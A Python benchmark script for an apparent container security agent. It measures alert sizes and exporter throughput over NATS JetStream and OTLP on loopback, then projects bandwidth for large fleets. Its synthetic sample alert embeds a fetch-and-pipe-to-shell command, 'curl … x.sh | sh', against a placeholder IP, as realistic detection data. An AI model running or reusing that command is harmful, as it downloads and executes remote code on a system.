"""Fleet export figures: bytes per alert on each wire, and how many alerts per second one node's
exporters move (NATS JetStream to a real nats-server on loopback, OTLP/HTTP to a local receiver
that decodes every request), then what a JetStream cluster or a collector carries at 1, 100 and
10,000 nodes for a few per-node alert rates.

    python -m bench.fleet [--alerts 20000] [--rate 2000] [--out bench/results/fleet.json]

The exporters are offered `--rate` alerts/s (paced), then once more as fast as a Python loop
emits (`nats_unpaced`: what a burst beyond the in-memory inbox costs, in dropped alerts).

No root, no kernel: the exporters are fed Alert records directly (what noise control hands
them). nats-server comes from the Debian package (skipped, and said so, when absent).
Everything runs on 127.0.0.1 and in a temporary directory removed at the end.
"""

from __future__ import annotations

import argparse
import gzip
import json
import logging
import os
import resource
import shutil
import socket
import subprocess
import tempfile
import threading
import time
import uuid
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

from roxd.alerts.node import NodeIdentity
from roxd.alerts.record import encode_record, export_record
from roxd.model import (
    ActionKind,
    ActionResult,
    Alert,
    Ancestor,
    Container,
    EnrichedEvent,
    ExecEvent,
    Outcome,
    Phase,
    Process,
    RuleRef,
    Severity,
)

NODE = NodeIdentity(hostname="worker-17.prod.example.org",
                    machine_id="4f1c2d0e9b8a7f6e5d4c3b2a19081726", kubernetes_node="worker-17")
# per-node alert rates: measured ones come from the newest benign and detection bench results
# (bench/results/benign-*.json: real workloads, no attack; detection-*.json: an Atomic Red
# Team run against a real roxd); the storm row is a bound, not a measurement: one container
# at noise control's default cap (120 alerts per container per minute)
STORM_CAP_PER_S = 2.0
FLEET_SIZES = (1, 100, 10_000)
HEARTBEAT_S = 10.0
RESULTS = Path(__file__).resolve().parent / "results"


def sample_alert(i: int) -> Alert:
    """A typical alert: a shell in a container, its parent chain, kill done in the kernel."""
    now = time.time_ns()
    c = Container(id=uuid.uuid4().hex + uuid.uuid4().hex, runtime="docker",
                  name="checkout-api-7d9f8", image="registry.example.org/shop/checkout:2.14.1")
    args = ("sh", "-c", f"curl -s http://198.51.100.7/x.sh | sh # {i}")
    proc = Process(pid=40_000 + i, ppid=39_999, uid=0, exe="/bin/sh", comm="sh", args=args,
                   cgroup_id=7777, ancestors=(
                       Ancestor(pid=39_999, exe="/usr/local/bin/node", args=("node", "app.js")),
                       Ancestor(pid=1, exe="/sbin/tini", args=("tini", "--"))))
    ev = ExecEvent(time_ns=now, pid=proc.pid, ppid=proc.ppid, uid=0, gid=0, cgroup_id=7777,
                   comm="sh", filename="/bin/sh", args=args, args_truncated=False)
    rule = RuleRef(id="foothold.shell-in-container", name="Shell spawned in a container",
                   phase=Phase.FOOTHOLD, severity=Severity.WARNING, mitre=("T1059.004",))
    return Alert(id=uuid.uuid4().hex, time_ns=now, rule=rule,
                 event=EnrichedEvent(event=ev, container=c, process=proc),
                 actions=(ActionResult(ActionKind.ALERT, Outcome.DONE),), first_ns=now,
                 last_ns=now)


def _cpu() -> float:
    r = resource.getrusage(resource.RUSAGE_SELF)
    return r.ru_utime + r.ru_stime


def sizes(n: int = 512) -> dict[str, float]:
    from roxd.alerts.otlp import OtlpSink
    from roxd.alerts.settings import OtlpSettings

    alerts = [sample_alert(i) for i in range(n)]
    json_bytes = [len(encode_record(export_record(a, NODE))) for a in alerts]
    tmp = Path(tempfile.mkdtemp(prefix="roxd-bench-fleet-"))
    logging.getLogger("roxd.alerts.otlp").setLevel(logging.ERROR)  # its start-up check fails
    try:
        # an OtlpSink only to use its encoder: nothing listens on port 9 (discard), and the
        # start-up check's failure is irrelevant here
        sink = OtlpSink(OtlpSettings(endpoint="http://127.0.0.1:9/v1/logs", timeout_s=0.2),
                        tmp, NODE)
        records = [sink.alert_record(a).SerializeToString() for a in alerts]
        request = sink.request(records)
        sink.close(0.2)
    finally:
        shutil.rmtree(tmp, ignore_errors=True)
        logging.getLogger("roxd.alerts.otlp").setLevel(logging.NOTSET)
    return {
        "json_record_bytes": sum(json_bytes) / n,
        "json_record_gzip_bytes_in_batch": len(gzip.compress(b"\n".join(
            encode_record(export_record(a, NODE)) for a in alerts))) / n,
        "otlp_log_record_bytes": sum(len(r) for r in records) / n,
        "otlp_request_bytes_per_alert": len(request) / n,
        "otlp_request_gzip_bytes_per_alert": len(gzip.compress(request, 6)) / n,
        "batch": n,
    }


def _emit_paced(sink: Any, alerts: list[Alert], rate: float) -> float:
    """emit() at `rate` alerts/s (0: as fast as the loop goes); seconds it took."""
    t0 = time.monotonic()
    for i, a in enumerate(alerts):
        sink.emit(a)
        if rate and i % 50 == 49:
            ahead = t0 + (i + 1) / rate - time.monotonic()
            if ahead > 0:
                time.sleep(ahead)
    return time.monotonic() - t0


@dataclass(frozen=True)
class PacedRun:
    """One exporter offered `count` alerts at `rate`/s, then flushed: what it took."""

    count: int
    rate: float
    flushed: bool
    wall_s: float  # from the first emit to the end of the flush
    emit_s: float
    cpu_s: float  # this process's, the exporter's thread included
    stats: dict[str, int]

    def figures(self, delivered: bool) -> dict[str, Any]:
        """The figures every exporter reports, first in its results."""
        return {"alerts": self.count, "offered_per_s": self.rate, "delivered": delivered,
                "wall_s": round(self.wall_s, 3),
                "delivered_per_s": round(self.count / self.wall_s, 1),
                "lag_after_last_emit_s": round(self.wall_s - self.emit_s, 3)}

    def cpu_us_per_alert(self) -> float:
        return round(self.cpu_s / self.count * 1e6, 1)


def _offer(sink: Any, count: int, rate: float) -> PacedRun:
    alerts = [sample_alert(i) for i in range(count)]
    cpu0, t0 = _cpu(), time.monotonic()
    emit_s = _emit_paced(sink, alerts, rate)
    ok = sink.flush(600)
    wall = time.monotonic() - t0
    cpu = _cpu() - cpu0
    return PacedRun(count, rate, ok, wall, emit_s, cpu, sink.stats())


def nats_throughput(count: int, work: Path, rate: float) -> dict[str, Any]:
    from roxd.alerts.jetstream import JetStreamSink
    from roxd.alerts.settings import NatsSettings

    if shutil.which("nats-server") is None:
        return {"skipped": "nats-server is not installed (apt-get install nats-server)"}
    port = _free_port()
    proc = subprocess.Popen(["nats-server", "-a", "127.0.0.1", "-p", str(port), "-js",
                             "-sd", str(work / "nats")], stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL)
    try:
        _wait_port(port)
        sink = JetStreamSink(NatsSettings(servers=(f"nats://127.0.0.1:{port}",),
                                          heartbeat_bucket=""), work / "state", NODE)
        run = _offer(sink, count, rate)
        heartbeat = len(sink.heartbeat())
        sink.close(5)
        return {**run.figures(run.flushed and not run.stats["dropped"]),
                "process_cpu_us_per_alert": run.cpu_us_per_alert(),
                "stats": run.stats, "heartbeat_bytes": heartbeat}
    finally:
        proc.terminate()
        proc.wait(10)


def otlp_throughput(count: int, work: Path, rate: float) -> dict[str, Any]:
    from opentelemetry.proto.collector.logs.v1.logs_service_pb2 import (
        ExportLogsServiceRequest,
        ExportLogsServiceResponse,
    )

    from roxd.alerts.otlp import OtlpSink
    from roxd.alerts.settings import OtlpSettings

    received = [0, 0]  # records, request bytes
    answer = ExportLogsServiceResponse().SerializeToString()

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, *_: Any) -> None:
            pass

        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers["Content-Length"]))
            received[1] += len(body)
            if self.headers.get("Content-Encoding") == "gzip":
                body = gzip.decompress(body)
            req = ExportLogsServiceRequest.FromString(body)
            received[0] += sum(len(sl.log_records) for rl in req.resource_logs
                               for sl in rl.scope_logs)
            self.send_response(200)
            self.send_header("Content-Type", "application/x-protobuf")
            self.send_header("Content-Length", str(len(answer)))
            self.end_headers()
            self.wfile.write(answer)

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        url = f"http://127.0.0.1:{server.server_address[1]}/v1/logs"
        sink = OtlpSink(OtlpSettings(endpoint=url), work / "state-otlp", NODE)
        run = _offer(sink, count, rate)
        sink.close(5)
        return {**run.figures(run.flushed and received[0] == count),
                "process_cpu_us_per_alert_incl_receiver": run.cpu_us_per_alert(),
                "wire_bytes_per_alert_gzip": round(received[1] / count, 1), "stats": run.stats}
    finally:
        server.shutdown()
        server.server_close()


def measured_rates(results: Path = RESULTS) -> dict[str, Any]:
    """Alerts per second one node raised in the newest benign and detection bench runs (real
    roxd, real workloads): the per-node rates the fleet table multiplies."""
    out: dict[str, Any] = {}
    benign = sorted(results.glob("benign-*.json"))
    if benign:
        doc = json.loads(benign[-1].read_text())
        alerts = int(doc["totals"]["alerts"]) + int(doc.get("host_alerts_during_run", 0))
        out["benign"] = {"file": benign[-1].name, "alerts": alerts,
                         "seconds": float(doc["seconds"]),
                         "per_s": alerts / float(doc["seconds"])}
    detection = sorted(results.glob("detection-*.json"))
    if detection:
        doc = json.loads(detection[-1].read_text())
        alerts = sum(len(r.get("alerts", [])) for r in doc["results"])
        out["attack"] = {"file": detection[-1].name, "alerts": alerts,
                         "seconds": float(doc["seconds"]),
                         "per_s": alerts / float(doc["seconds"]),
                         "atomic_tests_executed": doc["summary"]["overall"]["executed"]}
    return out


def rate_rows(measured: dict[str, Any]) -> dict[str, float]:
    rows = {}
    if "benign" in measured:
        b = measured["benign"]
        rows[f"benign workloads (measured: {b['alerts']} in {b['seconds']:.0f} s)"] = b["per_s"]
    if "attack" in measured:
        a = measured["attack"]
        rows[f"under attack (measured: {a['alerts']} in {a['seconds']:.0f} s)"] = a["per_s"]
    rows["storm cap, 1 container (bound: 120/min)"] = STORM_CAP_PER_S
    return rows


def fleet_table(size: dict[str, float], heartbeat_bytes: int,
                rates: dict[str, float]) -> list[dict[str, Any]]:
    rows = []
    for nodes in FLEET_SIZES:
        for label, per_node in rates.items():
            alerts_s = nodes * per_node
            rows.append({
                "nodes": nodes, "per_node": label, "per_node_alerts_per_s": round(per_node, 4),
                "alerts_per_s": round(alerts_s, 2),
                "nats_bytes_per_s": round(alerts_s * size["json_record_bytes"]),
                "nats_gb_per_day": round(alerts_s * size["json_record_bytes"] * 86400 / 1e9, 3),
                "otlp_gzip_bytes_per_s": round(alerts_s
                                               * size["otlp_request_gzip_bytes_per_alert"]),
                "heartbeats_per_s": round(nodes / HEARTBEAT_S, 1),
                "heartbeat_bytes_per_s": round(nodes / HEARTBEAT_S * heartbeat_bytes),
            })
    return rows


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def _wait_port(port: int, timeout: float = 20.0) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        with socket.socket() as s:
            if s.connect_ex(("127.0.0.1", port)) == 0:
                return
        time.sleep(0.05)
    raise RuntimeError(f"nothing listens on 127.0.0.1:{port}")


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--alerts", type=int, default=20_000)
    ap.add_argument("--rate", type=float, default=2000.0,
                    help="alerts/s offered to each exporter (0 = as fast as possible)")
    ap.add_argument("--out", type=Path, default=Path("bench/results/fleet.json"))
    args = ap.parse_args()
    work = Path(tempfile.mkdtemp(prefix="roxd-bench-fleet-"))
    try:
        size = sizes()
        result: dict[str, Any] = {
            "time": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime()),
            "cpus": len(os.sched_getaffinity(0)), "sizes": size,
            "nats": nats_throughput(args.alerts, work, args.rate),
            "otlp": otlp_throughput(args.alerts, work, args.rate),
            "nats_unpaced": nats_throughput(args.alerts, work / "burst", 0)}
        # a heartbeat's JSON as measured (about 700 bytes when nats-server was missing)
        heartbeat = int(result["nats"].get("heartbeat_bytes", 700))
        result["measured_rates"] = measured_rates()
        result["fleet"] = fleet_table(size, heartbeat, rate_rows(result["measured_rates"]))
    finally:
        shutil.rmtree(work, ignore_errors=True)
    args.out.parent.mkdir(parents=True, exist_ok=True)
    args.out.write_text(json.dumps(result, indent=2) + "\n")
    print(json.dumps({k: result[k] for k in ("sizes", "nats", "otlp", "nats_unpaced",
                                             "measured_rates")}, indent=2))
    print(f"written to {args.out}")


if __name__ == "__main__":
    main()
